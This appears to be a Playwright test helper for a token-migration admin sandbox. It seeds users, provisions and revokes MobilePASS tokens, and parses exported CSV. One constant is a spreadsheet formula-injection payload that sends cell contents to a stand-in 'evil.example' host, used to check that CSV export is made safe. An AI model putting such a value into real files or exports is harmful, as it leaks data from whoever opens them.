import type { Page } from '@playwright/test';
import type { Token, User } from '../src/lib/domain/types';

/** A user whose name a spreadsheet would run as a formula, were the CSV not made safe. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';

/**
 * A scripted migration through the automation hook (the phone's enrollment flow is built
 * elsewhere): a 200-user mid-migration world; three users without a token are provisioned
 * (MobilePASS+ pending) and three users who hold both apps have their MobilePASS 8 token revoked
 * to inventory (migration done). One user gets a formula-like last name and a name with a comma,
 * quotes and an accent.
 */
/** openSandbox can return before the app has mounted: wait for the automation hook too. */
export async function waitForSandbox(page: Page) {
	await page.waitForFunction(
		() => (window as unknown as { __sandbox?: { ready: boolean } }).__sandbox?.ready
	);
}

export async function scriptedMigration(page: Page) {
	await waitForSandbox(page);
	return page.evaluate(async (formula) => {
		const w = window as unknown as {
			__sandbox: {
				db: {
					users: { update: (id: string, c: object) => Promise<number> };
					tokens: {
						where: (i: string) => { equals: (v: unknown) => { toArray: () => Promise<Token[]> } };
					};
				};
				reset: (spec: object) => Promise<{ ok: boolean; reason?: string }>;
			};
			__commands: Record<string, (...a: unknown[]) => Promise<{ ok: boolean; reason?: string }>>;
		};
		const ok = (r: { ok: boolean; reason?: string }) => {
			if (!r.ok) throw new Error(r.reason);
		};
		const { db } = w.__sandbox;
		ok(await w.__sandbox.reset({ seed: 'x', users: 200 }));
		await db.users.update('acme-u1', { lastName: formula });
		await db.users.update('acme-u2', { firstName: 'Zoë, "Jr"' });
		const inventoryBefore = (
			await db.tokens.where('[serverId+state]').equals(['acme', 'Inventory']).toArray()
		).length;
		// Three users migrate to MobilePASS+ (provisioned, then enrolled on their phones with
		// Allow); three more are provisioned and have not enrolled yet.
		const migrating = ['acme-u121', 'acme-u122', 'acme-u123'];
		const pending = ['acme-u124', 'acme-u125', 'acme-u126'];
		// Software Token & Push OTP Settings: the mobiles and Windows 10 enroll in MobilePASS+.
		for (const target of ['iOS', 'Android', 'Windows 10'])
			ok(
				await w.__commands.changeTargetSettingCommand(db, 'acme', target, {
					allowed: true,
					app: 'MobilePASS+',
					push: true
				})
			);
		ok(await w.__commands.provisionCommand(db, 'acme', [...migrating, ...pending]));
		for (const id of migrating) {
			const phoneId = `phone-${id}`;
			ok(await w.__commands.installAppCommand(db, phoneId, 'mobilePassPlus'));
			const [enrollment] = await (
				db as unknown as {
					enrollments: {
						where: (i: string) => {
							equals: (v: unknown) => { toArray: () => Promise<{ code: string }[]> };
						};
					};
				}
			).enrollments
				.where('userId')
				.equals(id)
				.toArray();
			ok(
				await w.__commands.enrollCommand(db, {
					phoneId,
					app: 'MobilePASS+',
					allowPush: true,
					pin: '1357',
					code: enrollment.code
				})
			);
		}
		for (const id of ['acme-u81', 'acme-u82', 'acme-u83']) {
			const held = await db.tokens.where('userId').equals(id).toArray();
			const mp8 = held.find((t) => t.app === 'MobilePASS 8')!;
			ok(await w.__commands.operateTokenCommand(db, mp8.serial, 'revokeToInventory'));
		}
		return { inventoryBefore };
	}, FORMULA_NAME);
}

/** The world as the database holds it, read independently of the reports. */
export async function readWorld(page: Page) {
	return page.evaluate(async () => {
		const db = (
			window as unknown as {
				__sandbox: { db: Record<string, { toArray: () => Promise<unknown[]> }> };
			}
		).__sandbox.db;
		const [users, tokens, groups] = await Promise.all([
			db.users.toArray(),
			db.tokens.toArray(),
			db.groups.toArray()
		]);
		return {
			users: (users as User[]).filter((u) => u.serverId === 'acme'),
			tokens: (tokens as Token[]).filter((t) => t.serverId === 'acme'),
			groups: (groups as { id: string; serverId: string; name: string }[]).filter(
				(g) => g.serverId === 'acme'
			)
		};
	});
}

/** RFC 4180 parsing, written here so the test does not trust the code it checks. */
export function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i];
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else cell += ch;
		} else if (ch === '"') quoted = true;
		else if (ch === ',') {
			row.push(cell);
			cell = '';
		} else if (ch === '\r' && text[i + 1] === '\n') {
			row.push(cell);
			rows.push(row);
			row = [];
			cell = '';
			i++;
		} else cell += ch;
	}
	if (cell || row.length) rows.push([...row, cell]);
	return rows;
}
